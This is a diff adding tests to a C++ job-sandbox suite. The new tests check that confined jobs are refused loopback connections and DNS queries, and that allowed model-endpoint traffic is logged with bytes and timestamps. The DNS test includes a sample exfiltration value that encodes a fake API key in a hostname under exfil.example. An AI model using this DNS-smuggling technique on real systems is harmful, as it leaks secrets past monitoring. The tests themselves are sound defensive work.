@@ -24,6 +24,7 @@
 #include "aion/core/json.h"
 #include "aion/guard/mechanisms.h"
 #include "support/daemon_harness.h"
+#include "support/fake_openai.h"
 #include "support/test_users.h"
 
 namespace aion::testing {
@@ -116,8 +117,15 @@ class GuardTest : public ::testing::Test {
     // Daemons of tests running at once must not share job cgroups (each would take the
     // other's job-1 for its own).
     parent_ = "aion.test." + std::to_string(::getpid());
+    // The site's endpoint table names the test's model server on its port.
+    model_ = std::make_unique<FakeModel>(std::vector<Reply>{{200, final_answer("GPU 3 is free")}});
+    std::ofstream(h_.dir() / "endpoints.toml")
+        << "schema_version = 1\n[[endpoint]]\nname = \"test model server\"\nloopback_ports = ["
+        << model_->port() << "]\nsource = \"this test\"\n";
     h_.write_config("[daemon]\nsocket = \"" + h_.socket().string() + "\"\nstate_dir = \"" +
-                    h_.state_dir().string() + "\"\n[sched]\ncgroup_parent = \"" + parent_ + "\"\n");
+                    h_.state_dir().string() + "\"\n[sched]\ncgroup_parent = \"" + parent_ +
+                    "\"\n[guard]\nendpoints_file = \"" + (h_.dir() / "endpoints.toml").string() +
+                    "\"\n");
     ASSERT_TRUE(h_.start()) << h_.log();
     old_cwd_ = fs::current_path();
     fs::current_path(work_);  // `aion run` gives the job the caller's working directory
@@ -212,7 +220,15 @@ class GuardTest : public ::testing::Test {
     }
   }
 
+  void need_cgroup_bpf() {
+    if (!mech_.cgroup_bpf) {
+      for (const auto& m : mech_.rows)
+        if (m.name == "cgroup_bpf") GTEST_SKIP() << "cgroup BPF unavailable: " << m.detail;
+    }
+  }
+
   DaemonHarness h_;
+  std::unique_ptr<FakeModel> model_;
   std::string parent_;
   guard::Mechanisms mech_;
   std::optional<TestUser> alice_, bob_;
@@ -243,6 +259,80 @@ TEST_F(GuardTest, PtraceIsRefusedAndRecorded) {
 
 TEST_F(GuardTest, LoadingAKernelModuleIsRefusedAndRecorded) {
   expect_refused(false, {"module"}, "syscall", "init_module");  // as root: only root may try
+}
+
+TEST_F(GuardTest, ConnectingToALoopbackListenerNotAllowedIsRefusedAndRecorded) {
+  need_cgroup_bpf();
+  Listener tcp(SOCK_STREAM);
+  const std::string port = std::to_string(tcp.port());
+  Run free = run(false, true, {"connect", "127.0.0.1", port});
+  EXPECT_NE(free.exit.out.find("connect: ok"), std::string::npos) << free.exit.out;
+  EXPECT_EQ(tcp.received(2000), "(connected)hello");
+  Run boxed = run(true, true, {"connect", "127.0.0.1", port});
+  EXPECT_NE(boxed.exit.out.find("connect: refused (Operation not permitted)"), std::string::npos)
+      << boxed.exit.out;
+  EXPECT_EQ(tcp.received(300), "");
+  EXPECT_TRUE(refusal(boxed.job, "network", "connect tcp 127.0.0.1:" + port).is_object())
+      << h_.log();
+  // Allowed with --allow-net, the same connection goes through.
+  Run allowed = run(true, true, {"connect", "127.0.0.1", port}, {"127.0.0.1:" + port + "/tcp"});
+  EXPECT_NE(allowed.exit.out.find("connect: ok"), std::string::npos) << allowed.exit.out;
+  EXPECT_EQ(tcp.received(2000), "(connected)hello");
+}
+
+TEST_F(GuardTest, LeakingDataThroughDnsToALocalResolverIsRefusedAndRecorded) {
+  need_cgroup_bpf();
+  Listener resolver(SOCK_DGRAM);
+  const std::string port = std::to_string(resolver.port());
+  const std::string name = "api-key-sk-aion-test-0123.exfil.example";
+  Run free = run(false, true, {"dns", "127.0.0.1", port, name});
+  EXPECT_NE(free.exit.out.find("dns: ok"), std::string::npos) << free.exit.out;
+  EXPECT_NE(resolver.received(2000).find("api-key-sk-aion-test-0123"), std::string::npos);
+  Run boxed = run(true, true, {"dns", "127.0.0.1", port, name});
+  EXPECT_NE(boxed.exit.out.find("dns: refused (Operation not permitted)"), std::string::npos)
+      << boxed.exit.out;
+  EXPECT_EQ(resolver.received(300), "");
+  EXPECT_TRUE(refusal(boxed.job, "network", "send udp 127.0.0.1:" + port).is_object()) << h_.log();
+}
+
+// A job that talks to a model endpoint it is allowed: its egress record names the endpoint,
+// the bytes each way (exactly what the job sent and received) and when.
+TEST_F(GuardTest, TheEgressRecordNamesTheEndpointTheBytesAndTheTime) {
+  need_cgroup_bpf();
+  const std::string port = std::to_string(model_->port());
+  auto now_ms = [] {
+    return std::chrono::duration_cast<std::chrono::milliseconds>(
+               std::chrono::system_clock::now().time_since_epoch())
+        .count();
+  };
+  const auto before = now_ms();
+  Run r = run(true, true, {"chat", "127.0.0.1", port}, {"127.0.0.1:" + port + "/tcp"});
+  const auto after = now_ms();
+  const auto sent_at = r.exit.out.find("sent="), got_at = r.exit.out.find("received=");
+  ASSERT_NE(got_at, std::string::npos) << r.exit.out;
+  const unsigned long long sent = std::stoull(r.exit.out.substr(sent_at + 5));
+  const unsigned long long received = std::stoull(r.exit.out.substr(got_at + 9));
+  ASSERT_EQ(model_->received().size(), 1u);
+  Json flow;
+  for (int i = 0; i < 50 && !flow.is_object(); ++i) {
+    Exit e = run_program({DaemonHarness::aion_path(), "--config", h_.config().string(), "--json",
+                          "guard", "log", std::to_string(r.job)});
+    const Json j =
+        Json::parse(e.out.substr(std::min(e.out.find('{'), e.out.size())), nullptr, false);
+    if (j.is_object() && j.contains("egress") && j["egress"].is_object()) {
+      for (const auto& f : j["egress"].value("flows", Json::array()))
+        if (f.value("port", 0) == model_->port()) flow = f;
+    }
+    if (!flow.is_object()) std::this_thread::sleep_for(std::chrono::milliseconds(100));
+  }
+  ASSERT_TRUE(flow.is_object()) << "no flow to port " << port << "\n" << h_.log();
+  EXPECT_EQ(flow.value("name", ""), "test model server");
+  EXPECT_EQ(flow.value("address", ""), "127.0.0.1");
+  EXPECT_EQ(flow.value("protocol", ""), "tcp");
+  EXPECT_EQ(flow.value("bytes_out", 0ULL), sent);
+  EXPECT_EQ(flow.value("bytes_in", 0ULL), received);
+  EXPECT_GE(flow.value("first_ms", 0LL), before - 1000);
+  EXPECT_LE(flow.value("last_ms", 0LL), after + 1000);
 }
 
 TEST_F(GuardTest, AnUnknownProfileOrAWorkDirectoryOfTheSystemIsRefusedAtSubmit) {
